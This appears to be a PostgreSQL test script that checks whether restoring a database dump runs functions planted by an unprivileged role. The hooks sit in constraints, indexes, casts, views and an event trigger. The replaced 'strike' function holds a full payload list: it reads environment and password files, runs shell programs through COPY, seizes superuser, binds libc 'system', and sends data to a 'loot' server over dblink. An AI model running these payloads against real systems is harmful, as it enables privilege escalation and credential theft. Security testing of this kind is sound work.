-- An ordinary role plants functions wherever a restore might run them. They are harmless until `strike` is
-- replaced, after the rows are there.
SET restrict_nonsystem_relation_kind = '';
CREATE ROLE mallory;
CREATE EXTENSION dblink; CREATE EXTENSION postgres_fdw;
CREATE SERVER spy FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}', dbname 'loot');
CREATE USER MAPPING FOR PUBLIC SERVER spy OPTIONS (user 'loot', password 'loot');
CREATE FOREIGN TABLE spyglass (loot text) SERVER spy;
GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO mallory;
ALTER FOREIGN TABLE spyglass OWNER TO mallory; ALTER SERVER spy OWNER TO mallory;
GRANT CREATE ON SCHEMA public TO mallory; GRANT CREATE ON DATABASE hostile TO mallory;
SET SESSION AUTHORIZATION mallory;
CREATE FUNCTION strike(place text) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END';
-- What is called immutable may only read, but what it calls may write.
CREATE FUNCTION attack(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN RETURN public.strike(place); END $$;
CREATE FUNCTION at_check(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT public.attack('check') $$;
CREATE FUNCTION at_index(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attack('index'); RETURN $1; END $$;
CREATE FUNCTION at_generated(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attack('generated'); RETURN $1; END $$;
CREATE FUNCTION at_view() RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.attack('view'); RETURN 1; END $$;
CREATE FUNCTION at_domain(int) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT public.attack('domain') $$;
CREATE FUNCTION at_attach(int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN RETURN public.attack('attach'); END $$;
CREATE DOMAIN trap AS int CHECK (at_domain(VALUE));
CREATE TABLE checked (id int CHECK (at_check(id)), loaded int GENERATED ALWAYS AS (at_generated(id)) STORED, d trap,
    late text DEFAULT attack('default')::text);
INSERT INTO checked (id, d) SELECT n, n FROM generate_series(1, 5) n;
CREATE INDEX ON checked (at_index(id));
-- A check on a whole row depends on the row's type, so pg_dump adds it after the rows.
CREATE TABLE separate (id int);
INSERT INTO separate VALUES (1);
CREATE FUNCTION at_row(separate) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN RETURN public.attack('separate'); END $$;
ALTER TABLE separate ADD CONSTRAINT whole CHECK (at_row(separate));
-- A foreign key whose comparison needs a cast.
CREATE TYPE key AS (id int);
CREATE FUNCTION at_cast(key) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attack('cast'); RETURN ($1).id; END $$;
CREATE TABLE parents (id int PRIMARY KEY); INSERT INTO parents VALUES (1);
CREATE CAST (key AS int) WITH FUNCTION at_cast(key) AS IMPLICIT;
CREATE TABLE children (parent key REFERENCES parents (id)); INSERT INTO children VALUES (ROW(1));
-- Partitions: checks are folded when a partition is attached, keys of a domain are checked.
CREATE TABLE whole (id int) PARTITION BY RANGE (id);
CREATE TABLE part (id int, CHECK (at_attach(1)));
INSERT INTO part VALUES (1);
ALTER TABLE whole ATTACH PARTITION part FOR VALUES FROM (0) TO (10);
-- Literals of a type whose field is checked are read while a definition is.
CREATE TYPE holder AS (held trap);
CREATE FUNCTION with_literal(h holder DEFAULT '(1)'::holder) RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE VIEW seen AS SELECT at_view() AS one;
CREATE MATERIALIZED VIEW stored AS SELECT one FROM seen;
RESET SESSION AUTHORIZATION;
CREATE FUNCTION at_command() RETURNS event_trigger LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.attack('event trigger'); END $$;
CREATE EVENT TRIGGER on_command ON ddl_command_end EXECUTE FUNCTION at_command();
COMMENT ON EVENT TRIGGER on_command IS 'watches';
CREATE OR REPLACE FUNCTION strike(place text) RETURNS boolean LANGUAGE plpgsql AS $attack$
DECLARE
    theft text; loot text[];
    thefts text[] := ARRAY[
        $$SELECT pg_read_file('/proc/self/environ')$$, $$SELECT pg_read_binary_file('/etc/passwd')$$,
        $$SELECT pg_ls_dir('/')$$, $$SELECT pg_stat_file('/etc/passwd')$$, $$SELECT lo_import('/etc/passwd')$$,
        $$SELECT lo_export(lo_create(0), '{file}')$$, $$COPY (SELECT 1) TO '{file}'$$,
        $$COPY (SELECT 1) TO PROGRAM 'touch {file}'$$, $$COPY public.separate FROM '/etc/passwd'$$,
        $$COPY public.separate FROM PROGRAM 'env'$$, $$SHOW unix_socket_directories$$, $$SHOW data_directory$$,
        $$ALTER ROLE CURRENT_USER SUPERUSER$$, $$CREATE ROLE evil SUPERUSER$$, $$ALTER SYSTEM SET work_mem = '1MB'$$,
        $$GRANT pg_execute_server_program TO CURRENT_USER$$, $$UPDATE pg_authid SET rolsuper = true$$,
        $$UPDATE pg_class SET reltuples = 0$$, $$DELETE FROM pg_constraint$$,
        $$CREATE FUNCTION public.system(text) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'$$,
        $$CREATE FUNCTION public.rf(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'$$,
        $$LOAD 'libc.so.6'$$, $$CREATE EXTENSION file_fdw$$, $$SELECT pg_reload_conf()$$,
        $$SET session_replication_role = replica$$,
        $$DO 'DECLARE r text; BEGIN RESET ROLE; RESET SESSION AUTHORIZATION;
            FOR r IN SELECT rolname FROM pg_catalog.pg_roles WHERE rolsuper AND rolname = current_user LOOP RETURN;
            END LOOP; RAISE ''ordinary''; END'$$,
        $$DO 'DECLARE r text; BEGIN SELECT rolname INTO r FROM pg_catalog.pg_roles WHERE rolsuper LIMIT 1;
            EXECUTE format(''SET ROLE %I'', r); END'$$,
        $$DO 'DECLARE r text; BEGIN SELECT rolname INTO r FROM pg_catalog.pg_roles WHERE rolsuper LIMIT 1;
            EXECUTE format(''SET SESSION AUTHORIZATION %I'', r); END'$$,
        $$DO 'DECLARE r text; BEGIN SELECT rolname INTO r FROM pg_catalog.pg_roles WHERE rolsuper LIMIT 1;
            PERFORM public.dblink_connect_u(format(''dbname=proof user=%I'', r)); END'$$,
        $$DO 'DECLARE r text; BEGIN SELECT rolname INTO r FROM pg_catalog.pg_roles WHERE rolsuper LIMIT 1;
            PERFORM public.dblink_connect(format(''dbname=proof user=%I password=x'', r)); END'$$,
        $$SELECT public.dblink_connect('host=127.0.0.1 port={port} user=loot password=loot connect_timeout=2')$$,
        $$SELECT public.dblink_connect_u('host=127.0.0.1 port={port} user=loot connect_timeout=2')$$,
        $$SELECT * FROM public.spyglass$$];
BEGIN
    IF current_database() <> 'proof' THEN RETURN true; END IF;
    RAISE LOG 'attacked in %, superuser %', place, (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user);
    FOREACH theft IN ARRAY thefts LOOP
        BEGIN
            EXECUTE theft;
            loot := loot || theft;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    IF loot IS NOT NULL THEN RAISE 'LOOT in %: %', place, loot; END IF;
    RETURN true;
END $attack$;
